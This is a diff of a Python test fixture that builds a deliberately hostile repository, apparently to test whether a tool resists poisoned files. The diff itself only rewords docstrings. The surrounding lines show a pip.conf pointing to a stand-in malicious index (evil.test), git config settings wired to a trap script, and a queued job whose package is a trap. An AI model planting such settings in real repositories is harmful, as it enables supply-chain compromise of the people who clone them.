@@ -1,7 +1,7 @@
-"""A repository that commits every file the tool ever reads, each of them hostile.
+"""A repository with a hostile version of every file that the tool ever reads.
 
-Its traps touch a file when they run, its settings and its `service.json` name a server that records what
-reaches it, and its home holds a database with a queued job whose package is a trap.
+Its traps touch a file when they run. Its settings and its `service.json` name a server that records incoming
+requests. Its home holds a database with a queued job whose package is a trap.
 """
 
 from __future__ import annotations
@@ -74,17 +74,17 @@ STRANGERS_JOB = "strangers"
 
 
 class HostileRepository:
-    """The repository, cloned as its victim has it.
+    """The repository, as its victim cloned it.
 
     Attributes:
         repository: The clone.
         trace: The file that every trap touches.
 
     Args:
-        folder: Everything is made below it.
-        environments: As `Repository` has it.
+        folder: The parent folder of everything.
+        environments: As in `Repository`.
         recorder: The URL that settings and `service.json` name.
-        with_home: Whether a home lies in it, as earlier versions made it; git tracks it.
+        with_home: True to put a home into it, as earlier versions did; git tracks it.
     """
 
     def __init__(self, folder: Path, environments: Path, recorder: str, *, with_home: bool) -> None:
@@ -142,7 +142,7 @@ class HostileRepository:
         made.write("pip.conf", "[global]\nindex-url = https://evil.test/simple\n")
 
     def _set_git_traps(self) -> None:
-        """Set what a clone does not bring, but an unpacked archive of a checkout would."""
+        """Set the traps that a clone does not bring, but an unpacked archive of a checkout would."""
         script = self.repository.root / "git"
         for name in GIT_SETTINGS:
             self.repository.git("config", name, str(script))
